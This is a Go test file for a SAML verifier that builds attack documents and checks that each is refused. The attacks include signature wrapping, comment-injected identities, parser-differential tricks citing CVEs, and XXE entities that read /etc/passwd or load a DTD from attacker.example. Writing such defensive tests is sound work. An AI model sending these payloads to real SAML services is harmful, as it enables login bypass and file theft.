package saml

import (
	"errors"
	"flag"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "write the hostile documents of testdata/attack anew")

// hostile reads the documents of an attack from testdata/attack, after comparing
// them with those that their generator makes now.
func hostile(t *testing.T, attack string, made map[string]string) map[string]string {
	t.Helper()
	folder := filepath.Join("testdata", "attack", attack)
	if *update {
		if err := os.MkdirAll(folder, 0o755); err != nil {
			t.Fatal(err)
		}
		for name, document := range made {
			if err := os.WriteFile(filepath.Join(folder, name+".xml"), []byte(document), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	files, err := os.ReadDir(folder)
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != len(made) || len(made) == 0 {
		t.Fatalf("%s has %d documents, and %d are made", folder, len(files), len(made))
	}
	documents := make(map[string]string)
	for name, document := range made {
		if documents[name] = string(testdata(t, "attack", attack, name+".xml")); documents[name] != document {
			t.Errorf("%s/%s.xml is not what its generator makes; run with -update", folder, name)
		}
	}
	return documents
}

// attack expects each document to be refused with the message, whoever's key the
// attacker has, and whether assertions are decrypted or not.
func attack(t *testing.T, name, message string, made map[string]string) {
	t.Helper()
	documents := hostile(t, name, made)
	for _, variant := range slices.Sorted(maps.Keys(documents)) {
		t.Run(variant, func(t *testing.T) {
			for _, keys := range [][]string{{"idp"}, {"ec", "idp"}} {
				rules := testRules()
				rules.Keys = append(rules.Keys, decryptionKey(t))
				e := refused(t, documents[variant], metadataOf(t, keys...), rules)
				checkError(t, e, CodeInvalidIdentityToken, message)
			}
		})
	}
}

// valid returns the response that attacks are made of, which is taken.
func valid(t *testing.T, what int) string {
	t.Helper()
	document := newParts().signed(t, what, signing{by: keyOf(t, "idp")})
	mustVerify(t, document, metadataOf(t, "idp"), testRules())
	return document
}

// replaced changes a document once, or fails.
func replaced(t *testing.T, document, old, new string) string {
	t.Helper()
	if strings.Count(document, old) == 0 {
		t.Fatalf("%q is not in the document", old)
	}
	return strings.Replace(document, old, new, 1)
}

func TestAttack20Wrapping(t *testing.T) {
	valid(t, signResponse)
	valid(t, signAssertion)
	attack(t, "wrapping", messageMalformed, wrapped(t))
}

// TestAttack20LongSignedInfo: what strangers put into a SignedInfo is refused by its
// form, before it is made canonical, which is work.
func TestAttack20LongSignedInfo(t *testing.T) {
	document := valid(t, signResponse)
	bulk := strings.Repeat("<ds:Object/>", 1000)
	for name, place := range map[string]string{
		"reference": "</ds:Reference>", "transforms": "</ds:Transforms>", "transform": "</ds:Transform>",
		"information": "</ds:SignedInfo>", "method": "</ds:SignatureMethod>", "digest": "</ds:DigestMethod>",
	} {
		long := replaced(t, open(document), place, bulk+place)
		_, err := Verify(encode(long), metadataOf(t, "idp"), testTime, testRules())
		refusal, ok := errors.AsType[*Error](err)
		if !ok || refusal.Message != messageSignature || strings.Contains(refusal.Cause.Error(), "none of the provider's keys") {
			t.Errorf("%s: %v, %v", name, err, errors.Unwrap(err))
		}
	}
	prefixes := replaced(t, open(document), "</ds:Transform></ds:Transforms>",
		`<ec:InclusiveNamespaces xmlns:ec="`+nsExclusive+`" PrefixList="xs">`+bulk+"</ec:InclusiveNamespaces></ds:Transform></ds:Transforms>")
	_, err := Verify(encode(prefixes), metadataOf(t, "idp"), testTime, testRules())
	if cause := errors.Unwrap(err); cause == nil || !strings.Contains(cause.Error(), "canonical form") {
		t.Errorf("prefixes: %v, %v", err, cause)
	}
}

// open writes the empty elements of a signature with a tag at their end.
func open(document string) string {
	return regexp.MustCompile(`<ds:(\w+)([^<>]*)/>`).ReplaceAllString(document, "<ds:$1$2></ds:$1>")
}

func TestAttack20TwoAssertions(t *testing.T) {
	one, s := newParts(), signing{by: keyOf(t, "idp")}
	assertion := parse(t, one.assertion())
	s.sign(t, assertion)
	two := one
	two.assertionID, two.subject = "_other", strings.Replace(one.subject, "diego", "root", 1)
	other := parse(t, two.assertion())
	s.sign(t, other)
	whole := parse(t, one.response(one.assertion()+two.assertion()))
	s.sign(t, whole)
	encrypted := string(testdata(t, "recorded", "encrypted-cbc.xml"))
	_, rest, _ := strings.Cut(encrypted, "<saml:EncryptedAssertion>")
	hidden, _, _ := strings.Cut(rest, "</saml:EncryptedAssertion>")
	hidden = "<saml:EncryptedAssertion>" + hidden + "</saml:EncryptedAssertion>"
	attack(t, "two-assertions", messageMalformed, map[string]string{
		"both-signed":           one.response(write(t, assertion) + write(t, other)),
		"second-unsigned":       one.response(write(t, assertion) + two.assertion()),
		"first-unsigned":        one.response(two.assertion() + write(t, assertion)),
		"in-signed-response":    write(t, whole),
		"beside-encrypted":      one.response(write(t, assertion) + hidden),
		"two-encrypted":         one.response(hidden + hidden),
		"same-assertion-twice":  one.response(write(t, assertion) + write(t, assertion)),
		"in-advice":             replaced(t, valid(t, signAssertion), "</saml:Conditions>", "</saml:Conditions><saml:Advice>"+two.assertion()+"</saml:Advice>"),
		"empty-response-inside": one.response(write(t, assertion) + "<samlp:Extensions>" + strings.Replace(one.response(""), "_response", "_inner", 1) + "</samlp:Extensions>"),
		"response-in-response":  one.response(write(t, assertion) + "<samlp:Extensions>" + two.response(two.assertion()) + "</samlp:Extensions>"),
	})
}

func TestAttack20TwoSignatures(t *testing.T) {
	s, other := signing{by: keyOf(t, "idp")}, signing{by: keyOf(t, "attacker")}
	p := newParts()
	twice := parse(t, p.assertion())
	s.sign(t, twice)
	other.sign(t, twice)
	references := s
	references.references = 2
	attack(t, "two-signatures", messageMalformed, map[string]string{
		"of-the-assertion": p.response(write(t, twice)),
		"in-the-status":    strings.Replace(valid(t, signAssertion), "</samlp:Status>", write(t, signatureIn(parse(t, p.signed(t, signResponse, s))))+"</samlp:Status>", 1),
		"before-the-code":  strings.Replace(valid(t, signAssertion), "<samlp:Status>", "<samlp:Status>"+write(t, signatureIn(parse(t, p.signed(t, signResponse, s)))), 1),
		"in-the-subject":   strings.Replace(valid(t, signAssertion), "<saml:Subject>", "<saml:Subject>"+write(t, signatureIn(twice)), 1),
		"at-the-end":       moved(t, p.signed(t, signAssertion, s)),
	})
	attack(t, "two-references", messageSignature, map[string]string{
		"two-references":    p.signed(t, signAssertion, references),
		"bad-inside-good":   inside(t, other, s),
		"good-inside-bad":   inside(t, s, other),
		"two-signed-infos":  doubled(t, p.signed(t, signAssertion, s), "ds:SignedInfo"),
		"two-values":        doubled(t, p.signed(t, signAssertion, s), "ds:SignatureValue"),
		"two-digest-values": doubled(t, p.signed(t, signAssertion, s), "ds:DigestValue"),
	})
}

// moved puts an assertion's signature at its end.
func moved(t *testing.T, document string) string {
	t.Helper()
	response := parse(t, document)
	assertion := assertionIn(t, response)
	signature := signatureIn(assertion)
	assertion.RemoveChild(signature)
	assertion.AddChild(signature)
	return write(t, response)
}

// inside signs the assertion by one and the response by another.
func inside(t *testing.T, inner, outer signing) string {
	t.Helper()
	assertion := parse(t, newParts().assertion())
	inner.sign(t, assertion)
	response := parse(t, newParts().response(write(t, assertion)))
	outer.sign(t, response)
	return write(t, response)
}

// doubled repeats an element.
func doubled(t *testing.T, document, name string) string {
	t.Helper()
	start := strings.Index(document, "<"+name+">")
	end := strings.Index(document, "</"+name+">")
	if start < 0 || end < start {
		t.Fatalf("there is no %s", name)
	}
	el := document[start : end+len(name)+3]
	return document[:start] + el + document[start:]
}

// TestAttack20Comments has comments in identities, which parsers cut texts at.
// Canonical form leaves comments out, so that the signatures are still good.
func TestAttack20Comments(t *testing.T) {
	p := newParts()
	p.subject = strings.Replace(p.subject, "diego@example.com", "root@example.com.attacker.example", 1)
	whole := p.signed(t, signAssertion, signing{by: keyOf(t, "idp")})
	if a := mustVerify(t, whole, metadataOf(t, "idp"), testRules()); a.Subject.Value != "root@example.com.attacker.example" {
		t.Fatalf("the subject is %q", a.Subject.Value)
	}
	attack(t, "comments", messageMalformed, map[string]string{
		"in-the-name-id":        replaced(t, whole, "root@example.com.", "root@example.com<!---->."),
		"in-an-attribute-value": replaced(t, whole, "role/reader,", "role/reader<!-- -->,"),
		"in-the-issuer":         replaced(t, whole, "idp.example.com/saml</", "idp.example.com/<!---->saml</"),
		"in-the-audience":       replaced(t, whole, "urn:amazon:webservices", "urn:amazon<!---->:webservices"),
		"in-the-digest":         replaced(t, whole, "</ds:DigestValue>", "<!----></ds:DigestValue>"),
		"between-elements":      replaced(t, whole, "<saml:Conditions", "<!----><saml:Conditions"),
		"instruction":           replaced(t, whole, "root@example.com.", "root@example.com<?a?>."),
	})
}

// TestAttack20ParserDifferentials has documents that parsers read differently
// (CVE-2025-25291, CVE-2025-25292, CVE-2025-66567, and Go's own round trips,
// CVE-2020-29509 to 29511).
func TestAttack20ParserDifferentials(t *testing.T) {
	d := valid(t, signAssertion)
	attack(t, "parsers", messageMalformed, map[string]string{
		"document-type-with-attributes": "<!DOCTYPE a [<!ATTLIST samlp:Response ID CDATA #IMPLIED>]>" + d,
		"signature-in-a-comment":        replaced(t, d, "<saml:Subject>", `<!--<ds:Signature xmlns:ds="`+nsSignature+`"/>--><saml:Subject>`),
		"second-root":                   d + d,
		"text-behind":                   d + "x",
		"declaration-inside":            replaced(t, d, "<saml:Subject>", `<?xml version="1.0"?><saml:Subject>`),
		"declaration-behind-space":      ` <?xml version="1.0"?>` + d,
		"other-encoding":                `<?xml version="1.0" encoding="UTF-7"?>` + d,
		"attribute-twice":               replaced(t, d, `ID="_assertion"`, `ID="_assertion" ID="_evil"`),
		"attribute-twice-by-namespace":  replaced(t, d, "<saml:Subject>", `<saml:Subject xmlns:a="urn:x" xmlns:b="urn:x" a:i="1" b:i="2">`),
		"id-twice":                      replaced(t, d, "<saml:Subject>", `<saml:Subject ID="_assertion">`),
		"id-twice-in-xml":               replaced(t, d, "<saml:Subject>", `<saml:Subject xml:id="_assertion">`),
		"id-twice-in-lower-case":        replaced(t, d, "<saml:Subject>", `<saml:Subject id="_assertion">`),
		"undeclared-prefix":             replaced(t, d, "<saml:Subject>", `<x:Subject></x:Subject><saml:Subject>`),
		"prefix-undeclared-again":       replaced(t, d, "<saml:Subject>", `<saml:Subject xmlns:saml="">`),
		"prefix-xml":                    replaced(t, d, "<saml:Subject>", `<saml:Subject xmlns:xml="urn:x">`),
		"prefix-xmlns":                  replaced(t, d, "<saml:Subject>", `<saml:Subject xmlns:xmlns="urn:x">`),
		"name-of-three-parts":           replaced(t, d, "<saml:Subject>", `<saml:a:b/><saml:Subject>`),
		"name-that-begins-with-a-colon": replaced(t, d, "<saml:Subject>", `<:Subject/><saml:Subject>`),
		"attribute-with-a-colon":        replaced(t, d, "<saml:Subject>", `<saml:Subject :ID="_assertion">`),
		"attribute-without-quotes":      replaced(t, d, `ID="_assertion"`, `ID=_assertion`),
		"unknown-entity":                replaced(t, d, "diego", "&diego;"),
		"character-zero":                replaced(t, d, "diego", "diego&#0;"),
		"bytes-that-are-no-utf-8":       replaced(t, d, "diego", "diego\xff"),
		"end-of-another-name":           replaced(t, d, "</saml:Subject>", "</Subject>"),
		"section-end-in-text":           replaced(t, d, "diego", "diego]]>"),
	})
	// A namespace that another declaration replaces changes what elements are.
	attack(t, "namespaces", messageSignature, map[string]string{
		"assertion-in-another":   replaced(t, d, "<saml:Subject>", `<saml:Subject xmlns:saml="urn:x">`),
		"default-of-the-subject": replaced(t, d, "<saml:Subject>", `<Subject xmlns="`+nsAssertion+`"/><saml:Subject>`),
	})
}

func TestAttack20KeyInfo(t *testing.T) {
	theirs := keyOf(t, "attacker")
	s := signing{by: theirs, keyInfo: keyInfoOf(theirs)}
	both := s
	both.keyInfo = strings.Replace(s.keyInfo, "</ds:X509Data>", "<ds:X509Certificate>"+keyOf(t, "idp").base64()+"</ds:X509Certificate></ds:X509Data>", 1)
	impostor := s
	impostor.keyInfo = keyInfoOf(keyOf(t, "idp"))
	p := newParts()
	attack(t, "key-info", messageSignature, map[string]string{
		"of-the-assertion":     p.signed(t, signAssertion, s),
		"of-the-response":      p.signed(t, signResponse, s),
		"with-the-providers":   p.signed(t, signAssertion, both),
		"says-the-providers":   p.signed(t, signAssertion, impostor),
		"response-around-good": inside(t, signing{by: keyOf(t, "idp")}, s),
	})
	// The provider's own signature is good whatever it says of its key.
	own := signing{by: keyOf(t, "idp"), keyInfo: s.keyInfo}
	mustVerify(t, p.signed(t, signAssertion, own), metadataOf(t, "idp"), testRules())
}

func TestAttack20Unsigned(t *testing.T) {
	p, s := newParts(), signing{by: keyOf(t, "idp")}
	assertion := parse(t, p.assertion())
	s.sign(t, assertion)
	evil := p
	evil.assertionID, evil.subject = "_evil", strings.Replace(p.subject, "diego", "root", 1)
	stolen := write(t, signatureIn(assertion))
	graft := func(id string) string {
		e := evil
		e.assertionID = id
		return p.response(replaced(t, e.assertion(), "</saml:Issuer>", "</saml:Issuer>"+stolen))
	}
	attack(t, "unsigned", messageSignature, map[string]string{
		"nothing-signed":          p.response(p.assertion()),
		"signature-of-another":    graft("_evil"),
		"signature-of-another-id": graft("_assertion"),
		"empty-signature":         p.response(replaced(t, evil.assertion(), "</saml:Issuer>", `</saml:Issuer><ds:Signature xmlns:ds="`+nsSignature+`"/>`)),
	})
	attack(t, "stray-assertion", messageMalformed, map[string]string{
		"in-the-extensions": strings.Replace(p.response(evil.assertion()), "<samlp:Status>", "<samlp:Extensions>"+write(t, assertion)+"</samlp:Extensions><samlp:Status>", 1),
		"in-the-status":     strings.Replace(p.response(evil.assertion()), "</samlp:Status>", "<samlp:StatusDetail>"+write(t, assertion)+"</samlp:StatusDetail></samlp:Status>", 1),
		"in-an-attribute":   replaced(t, p.response(evil.assertion()), "<saml:AttributeValue>", "<saml:AttributeValue>"+write(t, assertion)),
		"behind":            p.response(evil.assertion() + write(t, assertion)),
	})
}

func TestAttack20DocumentTypes(t *testing.T) {
	d := valid(t, signAssertion)
	attack(t, "document-types", messageMalformed, map[string]string{
		"document-type":      "<!DOCTYPE Response>" + d,
		"external-file":      `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + replaced(t, d, "diego", "&x;"),
		"external-url":       `<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">` + d,
		"parameter-entity":   `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]>` + d,
		"entity-expansion":   `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>` + replaced(t, d, "diego", "&b;"),
		"behind-declaration": `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "root">]>` + replaced(t, d, "diego", "&x;"),
		"inclusion":          replaced(t, d, "<saml:Subject>", `<?xml-stylesheet href="http://attacker.example/"?><saml:Subject>`),
	})
}

func TestAttack20Algorithms(t *testing.T) {
	idp := keyOf(t, "idp")
	transform := func(names ...string) string {
		s := ""
		for _, n := range names {
			s += `<ds:Transform Algorithm="` + n + `"/>`
		}
		return s
	}
	p := newParts()
	made := make(map[string]string)
	for name, s := range map[string]signing{
		"signature-with-sha1":      {algo: "http://www.w3.org/2000/09/xmldsig#rsa-sha1"},
		"digest-with-sha1":         {digest: "http://www.w3.org/2000/09/xmldsig#sha1"},
		"hmac":                     {algo: "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"},
		"algorithm-of-curves":      {algo: "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"},
		"no-algorithm":             {algo: "urn:none"},
		"no-digest":                {digest: "urn:none"},
		"reference-to-all":         {uri: " "},
		"reference-by-pointer":     {uri: "#xpointer(id('_assertion'))"},
		"reference-to-url":         {uri: "http://attacker.example/"},
		"reference-to-another":     {uri: "#_response"},
		"transform-of-xslt":        {transforms: transform(transformEnveloped, nsExclusive, "http://www.w3.org/TR/1999/REC-xslt-19991116")},
		"transform-of-xpath":       {transforms: transform(transformEnveloped, "http://www.w3.org/TR/1999/REC-xpath-19991116")},
		"transform-of-base64":      {transforms: transform("http://www.w3.org/2000/09/xmldsig#base64", nsExclusive)},
		"transform-not-enveloped":  {transforms: transform(nsExclusive)},
		"transforms-in-reverse":    {transforms: transform(nsExclusive, transformEnveloped)},
		"transform-repeated":       {transforms: transform(transformEnveloped, transformEnveloped, nsExclusive)},
		"canonical-form-1.1":       {canonical: "http://www.w3.org/2006/12/xml-c14n11"},
		"canonical-form-unknown":   {canonical: "urn:none"},
		"parameters-of-the-method": {transforms: `<ds:Transform Algorithm="` + transformEnveloped + `"><a/></ds:Transform>` + transform(nsExclusive)},
		"object":                   {keyInfo: "<ds:Object/>"},
	} {
		s.by = idp
		made[name] = p.signed(t, signAssertion, s)
		if s.uri == "#_response" {
			s.uri = "#_assertion"
		}
		made["response-"+name] = p.signed(t, signResponse, s)
	}
	attack(t, "algorithms", messageSignature, made)
}

// TestAttack20Addressee has good assertions that are for somebody else.
func TestAttack20Addressee(t *testing.T) {
	change := func(what int, f func(*parts)) string {
		p := newParts()
		f(&p)
		return p.signed(t, what, signing{by: keyOf(t, "idp")})
	}
	const other = "https://attacker.example/saml"
	recipient := func(p *parts) { p.data = strings.Replace(p.data, testRecipient, other, 1) }
	prefix := func(p *parts) { p.data = strings.Replace(p.data, testRecipient, testRecipient+"/x", 1) }
	destination := func(p *parts) { p.responseAttributes = ` Destination="` + other + `"` }
	empty := func(p *parts) { p.responseAttributes = ` Destination=""` }
	audience := func(p *parts) { p.conditions = strings.Replace(p.conditions, testAudience, "urn:attacker", 1) }
	attack(t, "recipient", messageRecipient, map[string]string{
		"recipient":              change(signAssertion, recipient),
		"recipient-in-response":  change(signResponse, recipient),
		"recipient-longer":       change(signAssertion, prefix),
		"destination":            change(signAssertion, destination),
		"destination-signed":     change(signResponse, destination),
		"destination-empty":      change(signResponse, empty),
		"destination-in-capital": change(signResponse, func(p *parts) { p.responseAttributes = ` Destination="` + strings.ToUpper(testRecipient) + `"` }),
	})
	attack(t, "audience", messageAudience, map[string]string{
		"audience":             change(signAssertion, audience),
		"audience-in-response": change(signResponse, audience),
		"audience-longer":      change(signAssertion, func(p *parts) { p.conditions = strings.Replace(p.conditions, testAudience, testAudience+":x", 1) }),
	})
}

func TestAttack20InResponseTo(t *testing.T) {
	document := func(what int, response, confirmation string) string {
		p := newParts()
		p.responseAttributes += response
		p.data += confirmation
		return p.signed(t, what, signing{by: keyOf(t, "idp")})
	}
	const mine, theirs = ` InResponseTo="_mine"`, ` InResponseTo="_theirs"`
	documents := hostile(t, "request", map[string]string{
		"another-request":        document(signAssertion, theirs, theirs),
		"no-request":             document(signAssertion, "", ""),
		"response-to-another":    document(signAssertion, theirs, mine),
		"confirmation-to-other":  document(signAssertion, mine, theirs),
		"confirmation-to-none":   document(signResponse, mine, ""),
		"signed-and-for-another": document(signResponse, theirs, mine),
	})
	m := metadataOf(t, "idp")
	rules := testRules()
	rules.InResponseTo = "_mine"
	for name, d := range documents {
		t.Run(name, func(t *testing.T) {
			checkError(t, refused(t, d, m, rules), CodeInvalidIdentityToken, messageRequest)
		})
	}
	mustVerify(t, document(signAssertion, mine, mine), m, rules)
	mustVerify(t, document(signAssertion, "", mine), m, rules)
	rules.InResponseTo = ""
	mustVerify(t, document(signAssertion, "", ""), m, rules)
	checkError(t, refused(t, document(signAssertion, theirs, mine), m, rules), CodeInvalidIdentityToken, messageRequest)
}

// TestAttack20Replay has a caller that remembers what was used, as callers must:
// whatever else of a response changes, the assertion in it is the same.
func TestAttack20Replay(t *testing.T) {
	seen := make(map[[2]string]time.Time)
	use := func(document string, now time.Time) bool {
		a, err := Verify(encode(document), metadataOf(t, "idp"), now, testRules())
		if err != nil {
			return false
		}
		key := [2]string{a.Issuer, a.ID}
		if until, ok := seen[key]; ok && now.Before(until) {
			return false
		}
		seen[key] = a.Expires
		return true
	}
	first := valid(t, signAssertion)
	if !use(first, testTime) {
		t.Fatal("the assertion was refused the first time")
	}
	for name, again := range map[string]string{
		"same":             first,
		"another-response": replaced(t, first, "_response", "_another"),
		"another-layout":   replaced(t, first, "<samlp:Status>", "\n<samlp:Status>"),
	} {
		if use(again, testTime.Add(time.Minute)) {
			t.Errorf("%s: the assertion was taken twice", name)
		}
	}
	for _, until := range seen {
		if use(first, until) || use(first, until.Add(-time.Nanosecond)) {
			t.Error("the assertion was taken after it was forgotten")
		}
	}
	if use(replaced(t, first, `"_assertion"`, `"_fresh"`), testTime) {
		t.Error("the assertion was taken under another ID")
	}
}

func TestAttack20NotOnOrAfter(t *testing.T) {
	p := newParts()
	p.data = strings.Replace(p.data, at(4*time.Minute), at(-time.Second), 1)
	c := newParts()
	c.conditions = strings.Replace(c.conditions, at(4*time.Minute), at(-time.Second), 1)
	s := signing{by: keyOf(t, "idp")}
	for name, document := range hostile(t, "not-on-or-after", map[string]string{
		"confirmation":             p.signed(t, signAssertion, s),
		"conditions":               c.signed(t, signAssertion, s),
		"confirmation-in-response": p.signed(t, signResponse, s),
		"conditions-in-response":   c.signed(t, signResponse, s),
	}) {
		t.Run(name, func(t *testing.T) {
			checkError(t, refused(t, document, metadataOf(t, "idp"), testRules()), CodeExpiredToken, messageExpired)
		})
	}
	later := replaced(t, p.signed(t, signAssertion, s), at(-time.Second), at(time.Hour))
	checkError(t, refused(t, later, metadataOf(t, "idp"), testRules()), CodeInvalidIdentityToken, messageSignature)
}
